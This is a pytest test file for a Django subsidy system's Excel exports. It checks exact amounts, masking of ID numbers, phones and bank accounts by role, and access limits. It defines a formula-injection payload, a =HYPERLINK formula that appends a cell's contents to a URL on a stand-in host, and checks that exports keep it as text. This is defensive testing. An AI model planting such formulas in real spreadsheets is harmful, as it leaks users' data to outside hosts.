"""The Excel exports a finance officer and an auditor open: exact amounts, text that stays text,
personal data only for the roles that may see it."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from stations.models import Station
from subsidies.exports import campaign_totals_xlsx
from subsidies.models import Payout, PlacementRoster
from subsidies.services.claims import claim_create
from subsidies.services.rosters import roster_import
from tests.factories import make_station
from tests.subsidies.rosters import Text, id_number, person, phone, roster_upload
from tests.subsidies.steps import ACCOUNT, approved_claim, pay, published_campaign

HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")'


def workbook_of(content: bytes):
    workbook = load_workbook(io.BytesIO(content))  # full mode: formulas would show as data_type "f"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    return workbook


def body(response) -> bytes:
    """The file a download sends, streamed (from a temporary file) or not."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def rows_of(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def money(value) -> Decimal:
    return Decimal(str(value))


# --- the disbursement list ------------------------------------------------------------------------


@pytest.fixture
def disbursed(world, fund_a):
    """AAA-01 paid (voucher 记-2024-0815); AAA-02 approved, not yet paid; AAA-03 only drafted.

    AAA-02's operator typed a formula as the payee's name."""
    for code in ("AAA-02", "AAA-03"):
        make_station(region=world.town_a, code=code, name=f"甲县{code}驿站").operators.add(world.operator_a)
    published_campaign(world, totals={"AAA-01": 92, "AAA-02": 85, "AAA-03": 75})
    paid = approved_claim(world.station_a, operator=world.operator_a, bureau=world.bureau_a, fund=fund_a)
    pay(paid, bureau=world.bureau_a, voucher="记-2024-0815")
    approved_claim(
        Station.objects.get(code="AAA-02"),
        operator=world.operator_a,
        bureau=world.bureau_a,
        fund=fund_a,
        roster_first=20,
        payee_name=HOSTILE,
    )
    claim_create(
        station=Station.objects.get(code="AAA-03"), kind="performance", year=2024, actor=world.operator_a
    )
    return world


def download_disbursement(client, user):
    client.force_login(user)
    response = client.get(reverse("admin:subsidies_subsidyclaim_disbursement") + "?format=xlsx")
    assert response.status_code == 200
    return workbook_of(body(response))["拨付表"]


@pytest.mark.parametrize("who", ["bureau_a", "auditor_a"])
def test_the_disbursement_list_has_every_approved_or_paid_claim_with_exact_amounts(client, disbursed, who):
    sheet = download_disbursement(client, getattr(disbursed, who))
    rows = rows_of(sheet)

    assert rows[0][:6] == ["站点编码", "站点名称", "所在区域", "补助类型", "年度", "批准金额（元）"]
    assert [row[0] for row in rows[1:]] == ["AAA-01", "AAA-02"]  # the draft is not money yet
    paid, approved = rows[1], rows[2]
    assert money(paid[5]) == Decimal("60000.00")
    assert money(approved[5]) == Decimal("50000.00")
    assert sheet["F2"].number_format == "#,##0.00"
    payout = Payout.objects.get()
    # In full for those who pay it (and the export is recorded), masked for the auditor.
    account = ACCOUNT if who == "bureau_a" else "6222****0123"
    assert (paid[9], paid[10], paid[11].date(), paid[12]) == (
        account,
        "已拨付",
        payout.paid_on,
        "记-2024-0815",
    )
    assert approved[10] == "已批准待拨付"
    assert approved[12] is None
    assert (ACCOUNT in str(rows)) is (who == "bureau_a")


def test_a_payee_name_typed_as_a_formula_stays_text(client, disbursed):
    sheet = download_disbursement(client, disbursed.bureau_a)

    cell = sheet["H3"]
    assert cell.value == HOSTILE
    assert cell.data_type == "s"


def test_the_disbursement_list_of_another_county_is_empty(client, disbursed):
    sheet = download_disbursement(client, disbursed.bureau_b)
    assert sheet.max_row == 1


# --- the roster ----------------------------------------------------------------------------------


@pytest.fixture
def roster(world):
    people = [person(1), person(2, employer=Text("=某某劳务派遣公司"), wage=Decimal("4200.50"))]
    roster, _ = roster_import(
        station=world.station_a,
        year=2024,
        file=roster_upload(people),
        source_name="花名册.xlsx",
        actor=world.operator_a,
    )
    return roster


EXPORTS = {
    "portal": lambda roster: reverse("subsidies:roster_export", args=[roster.pk]),
    "admin": lambda roster: reverse("admin:subsidies_placementroster_export", args=[roster.pk]),
}


def roster_rows(client, user, url) -> list[list]:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    return rows_of(workbook_of(body(response)).active)


@pytest.mark.parametrize(
    ("who", "where"), [("operator_a", "portal"), ("auditor_a", "portal"), ("auditor_a", "admin")]
)
def test_the_roster_export_masks_id_numbers_and_phones_for_roles_that_may_not_see_them(
    client, world, roster, who, where
):
    rows = roster_rows(client, getattr(world, who), EXPORTS[where](roster))

    assert rows[1][2] == id_number(1)[:6] + "********" + id_number(1)[-4:]
    assert rows[1][3] == phone(1)[:3] + "****" + phone(1)[-4:]
    text = str(rows)
    for serial in (1, 2):
        assert id_number(serial) not in text
        assert phone(serial) not in text


@pytest.mark.parametrize(
    ("who", "where"), [("bureau_a", "portal"), ("bureau_a", "admin"), ("superuser", "admin")]
)
def test_the_roster_export_shows_bureau_staff_the_full_numbers(client, world, roster, who, where):
    # The plain export is masked for them too; the full one asks a purpose first (and is recorded).
    masked = roster_rows(client, getattr(world, who), EXPORTS[where](roster))
    assert id_number(1) not in str(masked)
    full = {
        "portal": reverse("subsidies:roster_export_full", args=[roster.pk]),
        "admin": reverse("admin:subsidies_placementroster_export_full", args=[roster.pk]),
    }[where]
    response = client.post(full, {"purpose": "claim_review"})
    assert response.status_code == 200, response.status_code
    rows = rows_of(workbook_of(body(response)).active)

    assert [row[2:4] for row in rows[1:]] == [[id_number(1), phone(1)], [id_number(2), phone(2)]]


def test_the_roster_export_keeps_values_exact_and_text_as_text(client, world, roster):
    client.force_login(world.bureau_a)
    sheet = workbook_of(body(client.get(EXPORTS["portal"](roster)))).active

    assert [c.value for c in sheet[1]] == [
        "行号",
        "姓名",
        "身份证号码",
        "手机号码",
        "用工单位",
        "岗位",
        "上岗日期",
        "月工资（元）",
    ]
    assert (sheet["E3"].value, sheet["E3"].data_type) == ("=某某劳务派遣公司", "s")
    assert sheet["C2"].data_type == "s"  # an ID number is text, never a rounded number
    assert money(sheet["H3"].value) == Decimal("4200.50")
    assert sheet["G2"].value.date().isoformat() == "2024-03-01"


def test_another_stations_operator_cannot_export_the_roster(client, world, roster):
    client.force_login(world.operator_b)
    assert client.get(EXPORTS["portal"](roster)).status_code == 404
    assert PlacementRoster.objects.count() == 1


# --- campaign totals by kind and tier --------------------------------------------------------------


def test_campaign_totals_count_stations_and_money_by_kind_and_tier(world):
    for code, kind in (("AAA-02", "gig_station"), ("AAA-03", "gig_station"), ("AAA-04", "doorstep_station")):
        make_station(region=world.town_a, code=code, kind=kind, name=f'=HYPERLINK("x","{code}")')
    campaign = published_campaign(world, totals={"AAA-01": 92, "AAA-02": 95, "AAA-03": 69, "AAA-04": 85})

    sheet = workbook_of(campaign_totals_xlsx(campaign))["分类汇总"]
    rows = rows_of(sheet)

    assert rows[0] == ["站点类型", "等次", "站点数", "年度补助（元）", "一次性补助（元）", "合计（元）"]
    body = [[r[0], r[1], r[2], money(r[3]), money(r[4]), money(r[5])] for r in rows[1:]]
    assert body == [
        ["零工驿站", "优秀", 2, Decimal("120000.00"), Decimal("0"), Decimal("120000.00")],
        ["零工驿站", "不合格", 1, Decimal("0"), Decimal("0"), Decimal("0")],
        ["家门口就业服务站", "良好", 1, Decimal("15000.00"), Decimal("0"), Decimal("15000.00")],
        ["合计", None, 4, Decimal("135000.00"), Decimal("0"), Decimal("135000.00")],
    ]
    assert all(sheet.cell(row=r, column=4).number_format == "#,##0.00" for r in range(2, 6))


@pytest.mark.parametrize(("who", "status"), [("bureau_a", 200), ("auditor_a", 200), ("bureau_b", 404)])
def test_campaign_totals_download_from_the_claims_admin_within_reach(client, world, published, who, status):
    client.force_login(getattr(world, who))

    response = client.get(reverse("admin:subsidies_subsidyclaim_totals", args=[published.pk]))

    assert response.status_code == status
    if status == 200:
        rows = rows_of(workbook_of(response.content)["分类汇总"])
        assert [rows[1][:3], money(rows[1][3])] == [["零工驿站", "优秀", 1], Decimal("60000.00")]
